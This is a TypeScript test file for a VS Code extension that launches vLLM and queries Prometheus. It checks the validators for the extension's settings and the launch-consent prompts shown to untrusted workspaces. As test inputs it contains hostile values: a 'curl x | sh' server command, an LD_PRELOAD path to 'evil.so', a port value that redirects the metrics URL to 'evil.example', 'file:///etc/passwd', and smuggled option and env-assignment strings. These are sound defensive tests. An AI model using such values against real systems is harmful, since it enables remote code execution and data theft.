// The checks every stageLens.* setting goes through before it becomes a URL, an argument, a
// path or an environment variable, with the manifest's defaults; and what an untrusted
// workspace is asked before a launch or a Prometheus query.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import manifest from '../../package.json';
import {
  checkDemoRps,
  checkDemoScenario,
  checkHttpUrl,
  checkMaxSessions,
  checkModel,
  checkPort,
  checkScrapeInterval,
  checkServerCommand,
  checkServerEnv,
  commandUses,
  expandServerCommand,
  RESTRICTED_SETTINGS,
  SETTING_DEFAULTS,
  SettingError,
} from '../../src/settingValues';
import { launchConsentQuestion, prometheusUrlQuestion, withWorkspaceEnv } from '../../src/launchConsent';

const rejects = (fn: () => unknown, pattern: RegExp): void => {
  assert.throws(fn, (err: unknown) => err instanceof SettingError && pattern.test(err.message), String(pattern));
};

test('stageLens.port is an integer from 1 to 65535: text that would reshape the metrics URL is refused', () => {
  assert.equal(checkPort(8000), 8000);
  assert.equal(checkPort(1), 1);
  assert.equal(checkPort(65535), 65535);
  rejects(
    () => checkPort('1@evil.example'),
    /^setting stageLens\.port must be an integer from 1 to 65535, not "1@evil\.example"$/,
  );
  for (const bad of ['8000', 0, 65536, 80.5, -1, Number.NaN, null, [8000], { port: 1 }])
    rejects(() => checkPort(bad), /stageLens\.port must be an integer/);
  // What the URL would have been: the guard matters.
  assert.equal(new URL(`http://127.0.0.1:${'1@evil.example'}/metrics`).hostname, 'evil.example');
});

test('the server command: an argument vector (verbatim elements) or the old whitespace-split string', () => {
  const argv = checkServerCommand([
    'vllm',
    'serve',
    '${model}',
    '--deploy-config',
    '${deployConfig}',
    '--port',
    '${port}',
    'a b',
  ]);
  assert.equal(argv.form, 'argv');
  const values = { model: 'Qwen/Qwen3-TTS', deployConfig: '/ws/my configs/tts.yaml', port: 8091 };
  assert.deepEqual(expandServerCommand(argv, values), [
    'vllm',
    'serve',
    'Qwen/Qwen3-TTS',
    '--deploy-config',
    '/ws/my configs/tts.yaml',
    '--port',
    '8091',
    'a b',
  ]);
  const text = checkServerCommand('  vllm serve ${model} --omni --deploy-config ${deployConfig}  --port=${port} ');
  assert.equal(text.form, 'string');
  assert.deepEqual(expandServerCommand(text, values), [
    'vllm',
    'serve',
    'Qwen/Qwen3-TTS',
    '--omni',
    '--deploy-config',
    '/ws/my configs/tts.yaml',
    '--port=8091',
  ]);
  assert.equal(commandUses(argv, 'model'), true);
  assert.equal(commandUses(checkServerCommand(['node', 'sim.js', '--port', '${port}']), 'model'), false);
  rejects(() => checkServerCommand([]), /is empty/);
  rejects(() => checkServerCommand(['', 'serve']), /is empty/);
  rejects(() => checkServerCommand('   '), /is empty/);
  rejects(() => checkServerCommand(['vllm', 3]), /stageLens\.serverCommand\[1\] must be a string/);
  rejects(() => checkServerCommand(['vllm', 'a\0b']), /NUL/);
  rejects(() => checkServerCommand({ cmd: 'vllm' }), /must be an array of arguments/);
  // The manifest's default is the argument vector of `vllm serve … --omni … --log-stats`.
  assert.deepEqual(expandServerCommand(checkServerCommand(SETTING_DEFAULTS.serverCommand), values), [
    'vllm',
    'serve',
    'Qwen/Qwen3-TTS',
    '--omni',
    '--deploy-config',
    '/ws/my configs/tts.yaml',
    '--log-stats',
    '--port',
    '8091',
  ]);
});

test('the server environment: strings only, null adds nothing, names cannot smuggle an assignment', () => {
  assert.deepEqual(checkServerEnv(SETTING_DEFAULTS.serverEnv), { VLLM_LOGGING_LEVEL: 'DEBUG' });
  assert.deepEqual(checkServerEnv({ VLLM_LOGGING_LEVEL: null, CUDA_VISIBLE_DEVICES: '0,1' }), {
    CUDA_VISIBLE_DEVICES: '0,1',
  });
  rejects(() => checkServerEnv({ 'A=B': 'x' }), /invalid variable name "A=B"/);
  rejects(() => checkServerEnv({ '': 'x' }), /invalid variable name/);
  rejects(() => checkServerEnv({ PORT: 8000 }), /value of PORT must be a string/);
  rejects(() => checkServerEnv({ X: 'a\0b' }), /NUL/);
  rejects(() => checkServerEnv(['VLLM_LOGGING_LEVEL=DEBUG']), /must be an object/);
  rejects(() => checkServerEnv('VLLM_LOGGING_LEVEL=DEBUG'), /must be an object/);
});

test('the model is one argument, never an option', () => {
  assert.equal(checkModel(' Qwen/Qwen3-TTS-12Hz-1.7B-CustomVoice '), 'Qwen/Qwen3-TTS-12Hz-1.7B-CustomVoice');
  assert.equal(checkModel('/models/local model'.replace(' ', '_')), '/models/local_model');
  rejects(() => checkModel('--trust-remote-code'), /not an option/);
  rejects(() => checkModel(''), /must not be empty/);
  rejects(() => checkModel('a --trust-remote-code'), /without spaces/);
});

test('URLs, intervals, retention and the demo', () => {
  assert.equal(checkHttpUrl('stageLens.prometheus.url', 'http://prom:9090'), 'http://prom:9090');
  assert.equal(
    checkHttpUrl('stageLens.prometheus.url', 'prom.internal:9090/prometheus'),
    'prom.internal:9090/prometheus',
  );
  rejects(() => checkHttpUrl('stageLens.prometheus.url', 'file:///etc/passwd'), /http:\/\/ or https:\/\//);
  rejects(() => checkHttpUrl('stageLens.prometheus.url', 'http://user:secret@prom:9090'), /user name or password/);
  rejects(() => checkHttpUrl('stageLens.prometheus.url', 'http://'), /http:\/\/ or https:\/\//);
  assert.equal(checkScrapeInterval(2000), 2000);
  rejects(() => checkScrapeInterval(10), /at least 250/);
  assert.equal(checkMaxSessions(50), 50);
  rejects(() => checkMaxSessions(0), /stageLens\.retention\.maxSessions/);
  rejects(() => checkMaxSessions(2.5), /integer/);
  assert.equal(checkDemoRps(2), 2);
  rejects(() => checkDemoRps(0), /above 0/);
  assert.equal(checkDemoScenario('cold-start'), 'cold-start');
  rejects(() => checkDemoScenario('--linger'), /must be one of qwen3-tts, qwen3-omni, glm-image, cold-start/);
});

test('manifest: defaults in one place, scopes of settings that reach outside the workspace, restricted settings', () => {
  const props = manifest.contributes.configuration.properties as Record<string, { default: unknown; scope?: string }>;
  assert.deepEqual(SETTING_DEFAULTS.serverEnv, { VLLM_LOGGING_LEVEL: 'DEBUG' });
  assert.equal(SETTING_DEFAULTS.port, props['stageLens.port']?.default);
  assert.equal(SETTING_DEFAULTS.retentionMaxSessions, props['stageLens.retention.maxSessions']?.default);
  // The storage folder is shared by every window: only a user setting may delete from it.
  assert.equal(props['stageLens.retention.maxSessions']?.scope, 'application');
  // What runs on this machine: set per machine (remote), overridable by a workspace only with consent.
  assert.equal(props['stageLens.serverCommand']?.scope, 'machine-overridable');
  assert.equal(props['stageLens.serverEnv']?.scope, 'machine-overridable');
  assert.deepEqual([...RESTRICTED_SETTINGS].sort(), [
    'stageLens.prometheus.url',
    'stageLens.serverCommand',
    'stageLens.serverEnv',
  ]);
  // Every setting the extension reads has a default in the manifest.
  for (const [name, value] of Object.entries(SETTING_DEFAULTS)) assert.notEqual(value, undefined, name);
});

test('an untrusted workspace is asked before any launch, and its own command and environment are shown, not used', () => {
  assert.equal(
    launchConsentQuestion({ trusted: true, commandLine: 'vllm serve m', deployConfig: '/ws/a.yaml', overrides: [] }),
    null,
  );
  const plain = launchConsentQuestion({
    trusted: false,
    commandLine: 'VLLM_LOGGING_LEVEL=DEBUG vllm serve m --deploy-config /ws/a.yaml',
    deployConfig: '/ws/a.yaml',
    overrides: [],
  });
  assert.ok(plain !== null);
  assert.match(plain.detail, /VLLM_LOGGING_LEVEL=DEBUG vllm serve m --deploy-config \/ws\/a\.yaml/);
  assert.match(plain.detail, /trust_remote_code/);
  assert.equal(plain.withWorkspace, null, 'nothing of the workspace to opt into');
  const withEnv = launchConsentQuestion({
    trusted: false,
    commandLine: 'vllm serve m',
    deployConfig: '/ws/a.yaml',
    overrides: [
      { key: 'stageLens.serverEnv', value: { LD_PRELOAD: '/ws/evil.so' } },
      { key: 'stageLens.serverCommand', value: ['sh', '-c', 'curl x | sh'] },
    ],
  });
  assert.ok(withEnv !== null);
  assert.match(withEnv.detail, /stageLens\.serverEnv: \{"LD_PRELOAD":"\/ws\/evil\.so"\}/);
  assert.match(withEnv.detail, /stageLens\.serverCommand: \["sh","-c","curl x \| sh"\]/);
  assert.equal(withEnv.launch, 'Launch');
  assert.equal(withEnv.withWorkspace, 'Launch With Workspace Settings');
  assert.deepEqual(withWorkspaceEnv({ VLLM_LOGGING_LEVEL: 'DEBUG' }, { LD_PRELOAD: 'x' }), {
    VLLM_LOGGING_LEVEL: 'DEBUG',
    LD_PRELOAD: 'x',
  });
});

test("an untrusted workspace's Prometheus URL is queried only when chosen", () => {
  assert.equal(
    prometheusUrlQuestion({ trusted: true, workspaceUrl: 'http://evil:9090', ownUrl: 'http://127.0.0.1:9090' }),
    null,
  );
  assert.equal(prometheusUrlQuestion({ trusted: false, workspaceUrl: null, ownUrl: 'http://127.0.0.1:9090' }), null);
  const q = prometheusUrlQuestion({
    trusted: false,
    workspaceUrl: 'http://evil:9090',
    ownUrl: 'http://127.0.0.1:9090',
  });
  assert.ok(q !== null);
  assert.match(q.detail, /http:\/\/evil:9090/);
  assert.equal(q.launch, 'Use My Setting');
});

test('every setting of the manifest is read in src/settings.ts, and nothing else reads settings', () => {
  const root = path.resolve(__dirname, '..', '..');
  const settingsModule = fs.readFileSync(path.join(root, 'src', 'settings.ts'), 'utf8');
  const read = new Set([...settingsModule.matchAll(/\braw\('([\w.]+)'/g)].map((m) => `stageLens.${m[1]}`));
  // stageLens.trace.server is read by vscode-languageclient itself (the client's id is stageLens).
  const declared = Object.keys(manifest.contributes.configuration.properties).filter(
    (key) => key !== 'stageLens.trace.server',
  );
  assert.deepEqual([...read].sort(), [...declared].sort());
  const readers = (dir: string): string[] =>
    fs.readdirSync(path.join(root, dir), { withFileTypes: true }).flatMap((e) => {
      const rel = path.join(dir, e.name);
      if (e.isDirectory()) return readers(rel);
      return /\.ts$/.test(e.name) && /getConfiguration\(/.test(fs.readFileSync(path.join(root, rel), 'utf8'))
        ? [rel]
        : [];
    });
  assert.deepEqual(readers('src'), [path.join('src', 'settings.ts')]);
});
